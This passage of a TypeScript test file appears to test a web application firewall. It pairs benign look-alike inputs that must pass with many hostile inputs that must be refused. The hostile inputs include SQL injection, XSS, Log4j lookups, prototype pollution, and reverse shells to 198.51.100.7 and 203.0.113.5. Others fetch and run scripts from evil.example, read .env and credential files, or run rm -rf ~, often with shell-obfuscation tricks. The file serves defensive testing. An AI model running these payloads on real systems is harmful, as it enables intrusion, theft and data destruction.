      { formula: '=LET(rev,SUM(Q1:Q4),cost,SUM(C1:C4),IF(rev=0,NA(),(rev-cost)/rev))' },
      { values: [['=COUNTIF(C2:C100, "<>")', '=MID(A2, 3, 4)']] },
      { text: 'What is the main reason for your score of ${e://Field/nps}?' },
      { input_data: { created: '{{1__created_at}}', body: '{{1__body_plain}}' } },
      {
        text: ':tada: New lead *{{ $json.body.company }}* ({{ $json.body.seats }} seats) is waiting for you',
      },
      { filter: "plan = 'team' AND last_seen > now() - interval '30 days'" },
      {
        parameters: {
          jsCode: "const [street, rest = ''] = inputData.address.split('\\n');\noutput = { street };",
        },
      },
    ];
    for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    const bad: unknown[] = [
      { formula: '=A1 union select password from users' },
      { formula: "=IF(1,\"x' or '1'='1\",2)" },
      { formula: '=SLEEP(5)' },
      { formula: '="" OR 1=1 #"' },
      { text: 'What is the main reason for your score of ${e://Field/nps}? $(curl evil.example|sh)' },
      { input_data: { created: '{{1__created_at.__class__.__mro__}}' } },
      { input_data: { created: '{{7*7}}' } },
      { filter: "last_seen > now() - interval '1 day' or '1'='1'" },
      { parameters: { jsCode: "require('child_process').exec(req.query.cmd)\nmore()" } },
    ];
    for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
  });

  test('code blocks of rich-text JSON, file names, comparisons in sentences, formulas opening with a macro', async () => {
    const ok: unknown[] = [
      {
        blocks: [
          {
            type: 'rich_text_preformatted',
            elements: [
              { type: 'text', text: 'mysql> SHOW PROCESSLIST;\n| 88213 | app | 10.0.4.12:51234 | orders |' },
            ],
          },
        ],
      },
      {
        type: 'codeBlock',
        attrs: { language: 'sql' },
        content: [{ type: 'text', text: "SELECT id FROM t\nWHERE a = 'b'" }],
      },
      {
        snippet: {
          title: 'query.sql',
          filetype: 'sql',
          content: 'SELECT u.id\nFROM users u\nHAVING count(*) > 5',
        },
      },
      { snippet: { title: 'docker-compose.yml', filetype: 'yaml' } },
      { query_sql: "SELECT count(*) AS n FROM marts.claims WHERE submitted_at > now() - interval '1 hour'" },
      {
        comment:
          'I tried to filter by date > 2025-12-31 and it returned nothing, had to use the "between" option',
      },
      { title: 'Investor call (do not disturb!!)' },
      { reply: 'Thank you, typo fixed: the exponent is $(\\alpha-1)/\\alpha$ (now eq. 15).' },
    ];
    for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    const q = `/v1/bots/60/logs?q=${encodeURIComponent('user_text:"select plan"')}`;
    assert.equal((await run(api, getInit(q))).error, undefined);
    const bad: unknown[] = [
      { type: 'codeBlock', content: [{ type: 'text', text: "x' UNION SELECT password FROM users --" }] },
      { snippet: { title: 'x.sh', filetype: 'shell', content: 'cat /etc/passwd\nid' } },
      { snippet: { title: 'wget evil.example -O- | sh' } },
      { query_sql: "1' OR '1'='1" },
      { comment: "I tried to filter by date' OR 1=1 -- and it returned everything" },
      { reply: 'Thank you, the exponent is $(id)$ and $(\\id)$ now, see eq. 15.' },
    ];
    for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
    const badQ = `/v1/bots/60/logs?q=${encodeURIComponent('user_text:"x" OR 1=1')}`;
    assert.ok((await run(api, getInit(badQ))).error);
  });

  test('held-out 20/21 look-alikes: media players, placeholders, policy variables, control tags, globs, arrows', async () => {
    const ok: unknown[] = [
      {
        explanation_html:
          '<p>Listen:</p><p><audio src="https://cdn.learn.example/a/4e.mp3" controls></audio></p>',
      },
      { memo: 'Auto-categorized (rule #${id})' },
      { Condition: { StringNotEquals: { 'aws:PrincipalTag/team': '${aws:username}' } } },
      {
        body_html:
          '<p>Hi {{ticket.requester.first_name}},</p>{% if ticket.priority == "urgent" %}<p>We have escalated this.</p>{% endif %}',
      },
      { plain_text: 'Titrate insulin glargine 18 -> 22 units tonight; follow up in two weeks.' },
    ];
    for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    assert.equal(
      (await run(api, getInit('/bms/api/v3/points?name=DUB-02%2FAHU-1%2F*&limit=200'))).error,
      undefined,
    );
    const bad: unknown[] = [
      { explanation_html: '<p>Listen:</p><audio src="javascript:alert(1)" controls></audio>' },
      { explanation_html: '<p>Watch:</p><video src="x" onerror="alert(1)"></video>' },
      { memo: 'Auto-categorized (rule #${sessionScope}) for ${jndi:ldap://203.0.113.5/a}' },
      { memo: 'Auto-categorized (rule #${id}) $(curl evil.example|sh)' },
      { body_html: '<p>Hi</p>{% if a == "b" %}<p>x</p>{% endif %}<p>& if exist c:\\boot.ini == 1 calc</p>' },
    ];
    for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
    assert.ok((await run(api, getInit('/bms/api/v3/points?name=a%2F*%20or%201%3D1'))).error);
  });

  test('a script-language reverse shell in a custom header is refused (90119, held-out 21)', async () => {
    const header = (v: string): Init => ({
      method: 'GET',
      path: '/api/v2/tickets',
      query: 'status=open',
      headers: { ...ua, 'x-customer-ref': v },
    });
    for (const v of [
      `'; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9001));pty.spawn("sh")'`,
      "x; perl -e 'use Socket;'",
      'x; bash -i >& /dev/tcp/198.51.100.7/9001 0>&1',
    ])
      assert.equal((await run(api, header(v))).error?.reason, 'waf:rce', v);
    for (const v of ['CR-2291-python', 'node -v 20; python 3.12 (see ticket)'])
      assert.equal((await run(api, header(v))).error, undefined, v);
  });

  test('a one-segment glob passes only where a scope or pattern is expected (audit 13: `id/*` cuts a query)', async () => {
    assert.equal((await run(api, post({ environment_scope: 'staging/*' }))).error, undefined);
    assert.equal((await run(api, post({ prefix: 'logs/eu/*' }))).error, undefined);
    assert.ok((await run(api, post({ id: 'id/*' }))).error);
    assert.ok((await run(api, getInit('/api/docs?id=id%2F*'))).error);
  });

  test('a probe quoted after a separator in a sentence is refused (the shell removes the quotes)', async () => {
    for (const note of [
      'Culture add and more words here; "id"',
      'Culture add and more words here; "whoami"',
      "Culture add and more words here; w'h'oami",
      'Culture add and more words here | "hostname"',
    ]) {
      assert.equal((await run(api, post({ note }))).error?.reason, 'waf:rce', note);
    }
    for (const note of [
      'we said it; "idea" is fine and good',
      'Bot misread "cancel order" as two intents; we split the training phrase.',
    ]) {
      assert.equal((await run(api, post({ note }))).error, undefined, note);
    }
  });
});

describe('waf API profile: session 10', () => {
  test('held-out 22-25 look-alikes: rule expressions, placeholders, tickers, persisted queries, Northwind filters', async () => {
    const ok: unknown[] = [
      { expression: 'applicant.age >= 25 && vehicle.year > 2010 && !(claims.count_5y > 2)' },
      { note: 'Reading up on log4j ${jndi} mitigation and how ${ctx} names clash with ours' },
      {
        widget: {
          html: '<marquee scrollamount="6">Welcome to our Toronto office! Fire drill at 14:00.</marquee>',
        },
      },
      // A widget script's modulo (`%86400`) is no percent-encoding: no decoded view, no invalid UTF-8 (920250).
      { config: 'var d = (s%86400)/3600; var h = (s%3600)/60; show(d, h);' },
      // A pasted traceback: its first line is a syntax error to a shell, which runs nothing after it.
      {
        output:
          'Traceback (most recent call last):\n  File "/sandbox/main.py", line 4, in <module>\n    print(1/0)\nZeroDivisionError: division by zero',
      },
      {
        text: 'My grandma’s recipe says “a pinch of salt; drop in the eggs one at a time” — we used it for the fractions homework (¾ cup flour × 2 = 1½ cups).',
      },
      // ICU messages of a localisation tool (held-out 29).
      { source: 'Budget "{budgetName}" is at {pct, number, percent} of its monthly limit' },
      { target: '{count, plural, one {# photo selected} other {# photos selected}}' },
      // A URL in a sentence is one word to a shell (`=mail` is no command; held-out 28).
      {
        note: 'P.S. the link in last week’s email (https://portal.example.com/r/8Kq2?utm_source=mail) was broken.',
      },
      { path: ['rows', 'constructor', 'builder'] },
      // A markdown table with a heading (held-out 31).
      { notes: '### Load notes\n| Field | Value |\n|---|---|\n| Weight | 42,500 lb |\n| Temp | 34°F |' },
    ];
    for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    const persisted = (variables: unknown): Init =>
      getInit(
        `/graphql?operationName=SearchPhotos&variables=${encodeURIComponent(JSON.stringify(variables))}` +
          `&extensions=${encodeURIComponent('{"persistedQuery":{"version":1,"sha256Hash":"601fd7716a35"}}')}`,
      );
    assert.equal((await run(api, persisted({ q: 'select focus portrait' }))).error, undefined);
    assert.equal((await run(plain, persisted({ q: 'select focus portrait' }))).error?.reason, 'waf:sqli');
    assert.equal(
      (await run(api, getInit('/jsonapi/reports?filter%5Bprogram%5D=northwind-cloud'))).error,
      undefined,
    );
    const bad: unknown[] = [
      { expression: 'a.b >= 1 && !(c.d = c.d)' },
      { note: 'see ${jndi:ldap://203.0.113.5/a}' },
      { note: 'harmless ${id} then \\u0024{jndi:ldap://203.0.113.5/a}' },
      { note: 'harmless ${id} then &#36;{jndi:ldap://203.0.113.5/a}' },
      { note: 'harmless ${id} then %24%7Bjndi:ldap://203.0.113.5/a%7D' },
      { widget: { html: '<marquee onstart="alert(1)">x</marquee>' } },
      { p: '..%25c0%25af..%25c0%25afetc/passwd' },
      { output: 'Traceback (most recent call last):\nid; whoami' },
      { output: 'Done "\nTraceback (most recent call last):\n"\nwhoami' },
      { note: 'case x in (x) whoami\nesac' },
      { note: 'if true\nthen whoami\nfi' },
      { note: 'for x in a b\ndo id\ndone' },
      { text: 'a pinch of salt\ny= whoami (x = 2)' },
      { target: '{count, plural, one {x" or 1=1 -- } other {# photos selected}}' },
      { note: 'Budget "{budgetName}" is at {pct, number, percent} of its limit; drop table users' },
      { note: 'The link in the email https://x.example/?a=1&id' },
      { path: ['a', 'constructor', 'prototype', 'isAdmin'], value: true },
      { path: ['__proto__', 'isAdmin'], value: true },
      { caption: ';ruby -rsocket -e\'exit if fork;c=TCPSocket.new("203.0.113.5","4444")\'' },
      { tags: ';$0 -c id' },
      { host: 'a" | nc 127.0.0.1 4444 -e sh | "b' },
      { t: 'pwsh -c whoami' },
      { title: 'powershell calc' },
      { h: '127.0.0.1\n! if true\nthen rm -rf ~\nfi' },
      { h: '127.0.0.1;cat .env' },
      { h: '127.0.0.1\nx= id' },
      { note: '# Traceback (most recent call last):\ncurl -s http://203.0.113.9/x.sh | sh' },
      { note: 'Traceback (most recent call last):\n  File "main.py", line 12\n" ; rm -rf ~ ; "' },
      // Audit 18: a quoted $0, commands behind `!`, groups and assignments, dot-files by glob or redirect, a path
      // through a prototype in one-element arrays, a table cell holding a break-out.
      { host: '127.0.0.1;"$0" -c \'rm -rf ~\'' },
      { host: '127.0.0.1;! rm -rf ~' },
      { host: '127.0.0.1;x=1 rm -rf ~' },
      { host: '127.0.0.1;{ id; }' },
      { host: '127.0.0.1;x=1 y=2 z=3 a=4 b=5 id' },
      { host: '127.0.0.1;cat .en?' },
      { host: '127.0.0.1;cat<.env' },
      { host: '127.0.0.1;rev .env' },
      { host: '127.0.0.1;cat ~/.a?s/credentials' },
      { path: [['constructor'], ['prototype'], 'isAdmin'], value: true },
      { notes: "### Notes\n| Field | Value |\n|---|---|\n| a' or 1=1 -- | x |" },
      // Audit 19: `$0` with options first, quoted assignment values, launchers and quoting before a command,
      // dot-file names spelled with quotes, a member that pretends an element is an array, more ORDER BY shapes.
      { host: "127.0.0.1;$0 +x -c 'rm -rf ~'" },
      { host: '127.0.0.1;x="a b" rm -rf ~' },
      { host: '127.0.0.1;time rm -rf ~' },
      { host: '127.0.0.1;! \\rm -rf ~' },
      { host: '127.0.0.1;cat ."env"' },
      { path: ['constructor', 'prototype', 'isAdmin'], 'path.1.x': 1 },
      { sort: 'name order by 1,2,3-- -' },
      // Audit 20: empty expansions glued into words, launchers with options, a member hiding a path element
      // placed first, installers given a URL, brace expansion of a dot-file.
      { host: '127.0.0.1;r$@m -rf ~' },
      { host: '127.0.0.1;$0$@ -c id' },
      { host: '127.0.0.1;time -p id' },
      { 'path.1': 'x', path: ['constructor', 'prototype', 'isAdmin'], v: true },
      { note: 'Ok ; pip3.12 install https://evil.example/pkg.tar.gz' },
      { host: '127.0.0.1;cat {.env,}' },
      // Audit 21: `$!`, `$()`, an empty backtick pair and ANSI-C quoting as empty expansions; installers from git.
      { host: '127.0.0.1;r$!m -rf ~' },
      { host: '127.0.0.1;$()$0 -c id' },
      { host: '127.0.0.1;i` `d' },
      { host: "127.0.0.1;$'r'm -rf ~" },
      { branch: '`i$!d`' },
      { note: 'Ok ; pip install git+ssh://git@evil.example/x' },
      { 'path.1': 7, 'path.1.x': 1, path: ['constructor', 'prototype', 'isAdmin'], v: true },
      // Audit 22: substitutions that print nothing, `$"…"`, ANSI-C escapes inside a word, line continuations,
      // installer registries given with `=` or after the package.
      { host: '127.0.0.1;r`:`m -rf ~' },
      { host: '127.0.0.1;cu$"rl" 203.0.113.9/x.sh|sh' },
      { host: "127.0.0.1;cat .en$'\\x76'" },
      { host: '127.0.0.1;$\\\n0 -c id' },
      { note: 'Ok ; npm install --registry=https://evil.example pkg' },
    ];
    for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
    assert.ok((await run(api, persisted({ q: "x' union select password from users--" }))).error);
    assert.ok((await run(api, persisted({ __proto__x: 1, a: { $where: 'sleep(5000)' } }))).error);
    assert.ok((await run(api, getInit('/x?filter%5Bprogram%5D=northwind..dbo.users'))).error);
  });

  test('glob-named programs after a separator and Log4j lookups by any prefix are refused (90133, 90101/90114)', async () => {
    for (const value of [
      ';/bin/c?t /e??/p?ss??',
      'x|/???/??t /???/??ss??',
      '$(/b[i]n/ca? /etc/hostname)',
      'ok && /usr/bin/wh?ami x',
    ])
      assert.equal(
        (await run(api, post({ meta: { items: [{ convertArgs: value }] } }))).error?.reason,
        'waf:rce',
        value,
      );
    for (const value of ['exports go to reports; /search?q=1 finds them', 'pick a | /docs/*.md glob list'])
      assert.equal((await run(api, post({ note: value }))).error, undefined, value);
    const referer = (v: string): Init => ({
      method: 'GET',
      path: '/api/products',
      query: 'category=denim',
      headers: { ...ua, referer: v },
    });
    for (const v of [
      'https://shop.example/${base64:JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuNy9hfQ==}',
      'https://shop.example/${ k8s:containerName}',
    ])
      assert.ok((await run(api, referer(v))).error, v);
    assert.ok((await run(api, post({ note: 'x ${bundle:app:secret}' }))).error);
    // SQLite's GLOB after a break-out (CRS passes it at every paranoia level), Go/Django/Razor templates.
    for (const doc of [
      { q: "x'or title glob'?*" },
      { q: "x' or name regexp '." },
      { greeting: '{{ .Request.Context }}{{ call .Exec "id" }}' },
      { t: '{{ settings.SECRET_KEY }}{% debug %}' },
      { signature: '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")' },
      { url: 'https://fw.example/2024.11.bin`reboot`' },
    ])
      assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
    for (const doc of [
      { q: "It's a glob pattern, not a regexp" },
      { t: 'Hi {{ first_name }}, call us at {{ phone }}' },
    ])
      assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    const forwarded = (v: string): Init => ({
      method: 'GET',
      path: '/api/v2/shop/password-reset',
      query: 'email=a%40example.com',
      headers: { ...ua, 'x-forwarded-host': v },
    });
    assert.ok((await run(api, forwarded('localhost%2523@attacker.example'))).error);
    // Markup in an application's own header (90138), a fetch chain in the User-Agent (90119), ORDER BY probing.
    assert.ok((await run(api, forwarded('shop.example.com'))).error === undefined);
    const custom = (name: string, v: string): Init => ({
      method: 'GET',
      path: '/museum/api/timeslots',
      query: 'date=2026-12-23',
      headers: { ...ua, [name]: v },
    });
    assert.equal(
      (await run(api, custom('x-client-tracking', '<object data="data:text/html;base64,PHNjcmlwdD4=">')))
        .error?.reason,
      'waf:xss',
    );
    assert.ok(
      (await run(api, custom('user-agent', 'main && wget http://203.0.113.9/m -O /tmp/m && chmod +x /tmp/m')))
        .error,
    );
    assert.equal(
      (await run(api, custom('x-client-tracking', 'campaign=spring-2026; ab=b'))).error,
      undefined,
    );
    assert.ok((await run(api, post({ notes: { surface: 'name ORDER BY 9-- -' } }))).error);
    assert.equal((await run(api, forwarded('shop.example.com, edge-1.example.net:8443'))).error, undefined);
    // A compose file's default (`web:` is no lookup prefix there): the template rule stays quiet on it.
    const compose = await run(api, post({ url: '${API_URL:-http://web:8080}' }));
    assert.ok(!compose.events.some((e) => (e.fields.rule_ids as number[] | undefined)?.includes(90101)));
  });
});
